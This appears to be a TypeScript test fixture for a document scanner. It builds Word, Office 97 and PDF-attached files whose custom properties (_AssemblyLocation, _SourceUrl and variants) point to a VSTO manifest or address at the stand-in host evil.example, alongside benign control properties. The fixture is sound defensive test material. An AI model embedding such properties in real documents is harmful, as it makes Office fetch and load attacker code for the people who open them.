import { compoundFile } from '../../../support/compound-file';
import { docxFile } from '../../../support/docx';
import { attachedPdf } from '../../../support/pdf/make';
import { presentation, slideText } from '../../../support/presentation';
import { namedInSecond, propertySet } from '../../../support/property-set';
import { wordFile } from '../../../support/word97';
import type { Hostile } from './hostile';

const namespaces = {
  transitional: 'http://schemas.openxmlformats.org/officeDocument/2006/custom-properties',
  strict: 'http://purl.oclc.org/ooxml/officeDocument/customProperties',
};
const types = 'http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes';
const summary = '\u0005DocumentSummaryInformation';
const office = 'application/vnd.openxmlformats-officedocument';

const manifest = 'https://evil.example/cv.vsto|73e0a4b4-0000-4000-8000-000000000000';

type Property = [name: string, value: string, more?: string];

const withProperties = (properties: readonly Property[], namespace = namespaces.transitional, main?: string) =>
  docxFile(
    {
      'docProps/custom.xml': `<Properties xmlns="${namespace}" xmlns:vt="${types}">${properties
        .map(
          ([name, value, more = ''], index) =>
            `<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="${index + 2}" name="${name}" ${more}><vt:lpwstr>${value}</vt:lpwstr></property>`,
        )
        .join('')}</Properties>`,
    },
    main ? { '/word/document.xml': main } : {},
  );

/** A text as older properties have it, in letters of one byte. */
const older = (name: string, value: string, isWide = false) =>
  propertySet(name, 30, Buffer.from(`${value}\0`, 'latin1'), isWide);

const withOlder = (stream: Buffer, name = summary) => wordFile({ text: 'CV' }, { [name]: stream });

const loading = [
  ...['_AssemblyName', '_AssemblyLocation', '_AssemblyLocation0', '_AssemblyName17'],
  ...['_ASSEMBLYLOCATION', '_assemblyname1', ' _AssemblyLocation ', '_Assembly\u00a0Name'],
];
const asked = ['_SourceUrl', '_sourceurl', '_CheckOutSrcUrl', 'Solution URL', 'SolutionURL'];

const customisations: [what: string, name: string, data: Buffer][] = [
  ...loading.flatMap((name): [string, string, Buffer][] => [
    [`a .docx with "${name}"`, 'cv.docx', withProperties([[name, manifest]])],
    [`a .doc with "${name}"`, 'cv.doc', withOlder(older(name, manifest))],
    [`a .doc with "${name}" in UTF-16`, 'cv.doc', withOlder(older(name, manifest, true))],
  ]),
  ['a .docx with one without a value', 'cv.docx', withProperties([['_AssemblyName', '']])],
  ['a .docx of the strict dialect', 'cv.docx', withProperties([['_AssemblyName', '*']], namespaces.strict)],
  ['a .docx with one that a text gives', 'cv.docx', withProperties([['_AssemblyLocation', '', 'linkTarget="a"']])],
  ['a .doc with one in its second set', 'cv.doc', withOlder(namedInSecond(older('_AssemblyLocation', manifest)))],
  ['a .doc with one in another stream', 'cv.doc', withOlder(older('_AssemblyLocation', manifest), '\u0005abc')],
  [
    'a .doc with one in a storage of properties',
    'cv.doc',
    withOlder(older('_AssemblyLocation', manifest), `${summary}/CONTENTS`),
  ],
  ['a .doc with one that breaks off', 'cv.doc', withOlder(older('_AssemblyLocation', manifest).subarray(0, -30))],
  [
    'a .docx with a workbook inside',
    'cv.docx',
    docxFile(
      {
        'word/embeddings/a.xlsx': withProperties(
          [['_AssemblyLocation', manifest]],
          undefined,
          `${office}.spreadsheetml.sheet.main+xml`,
        ),
      },
      { xlsx: `${office}.spreadsheetml.sheet` },
    ),
  ],
  [
    'a PDF with a presentation of 97',
    'cv.pdf',
    attachedPdf(
      'a.ppt',
      presentation([slideText('CV')], undefined, { [summary]: older('_AssemblyLocation', manifest) }),
    ),
  ],
  [
    'a PDF with a workbook of 97',
    'cv.pdf',
    attachedPdf(
      'a.xls',
      compoundFile({ Workbook: Buffer.of(9, 8, 2, 0, 0, 6), [summary]: older('_AssemblyName', '*') }),
    ),
  ],
];

const askedElsewhere: [what: string, name: string, data: Buffer][] = [
  ...asked.flatMap((name): [string, string, Buffer][] => [
    [`a .docx with "${name}"`, 'cv.docx', withProperties([[name, 'https://evil.example/a']])],
    [`a .doc with "${name}"`, 'cv.doc', withOlder(older(name, '\\\\evil.example\\a'))],
    [`a .doc with "${name}" in UTF-16`, 'cv.doc', withOlder(older(name, 'https://evil.example/a', true))],
  ]),
  ['a .docx with one that a text gives', 'cv.docx', withProperties([['_SourceUrl', '', 'linkTarget="a"']])],
  ['a .doc with one in its second set', 'cv.doc', withOlder(namedInSecond(older('_SourceUrl', 'http://evil.example')))],
];

/** Its names are only spelt by who knows EBCDIC, Japanese by escapes, or UTF-7: here they only stand for that. */
const inOtherLetters = [37, 50_220, 52_936, 65_000, 0xffff].map((page): Hostile => {
  const set = propertySet('name', 30, Buffer.from('value\0'), false, 1, page);
  return { what: `properties in code page ${page}`, name: 'cv.doc', data: withOlder(set), because: 'damaged' };
});

export const loadingProperties: Hostile[] = [
  ...inOtherLetters,
  ...customisations.map(([what, name, data]): Hostile => {
    return { what: `a customisation: ${what}`, name, data, because: 'a customisation' };
  }),
  ...askedElsewhere.map(([what, name, data]): Hostile => {
    return { what: `an address that Office asks: ${what}`, name, data, because: 'fetched from elsewhere' };
  }),
];

/** Properties that programs only keep, and those of SharePoint that have no value. */
const kept: Property[] = [
  ['_AdHocReviewCycleID', '-1234'],
  ['_NewReviewCycle', ''],
  ['_EmailSubject', 'CV'],
  ['MSIP_Label_f42aa342-8706-4288-bd11-ebb85995028c_SiteId', '72f988bf-86f1-41af-91ab-2d7cd011db47'],
  ['ContentTypeId', '0x010100'],
  ['_SourceUrl', ''],
  ['_SharedFileIndex', ''],
  ['TemplateUrl', ''],
  ['xd_ProgID', ''],
  ['_AssemblyNames', 'speeches'],
  ['My_AssemblyName', 'Bangla'],
  ['Solution', 'https://example.com/'],
];

export const keptProperties: readonly { end: 'docx' | 'doc'; data: Buffer }[] = [
  { end: 'docx', data: withProperties(kept) },
  { end: 'docx', data: withProperties(kept, namespaces.strict) },
  { end: 'doc', data: withOlder(older('_AdHocReviewCycleID', '-1234'), `${summary}/CONTENTS`) },
  // Of Windows, the Macintosh, Unix, Japan, Thailand and Korea, and UTF-8: in each an ASCII letter is itself.
  ...[1252, 1251, 10_000, 28_591, 932, 874, 949, 65_001, 0].map((page) => ({
    end: 'doc' as const,
    data: withOlder(propertySet('name', 30, Buffer.from('value\0'), false, 1, page)),
  })),
  ...kept
    .filter(([name]) => !/assembly/i.test(name))
    .flatMap(([name, value]) =>
      [false, true].map((isWide) => ({ end: 'doc' as const, data: withOlder(older(name, value, isWide)) })),
    ),
];
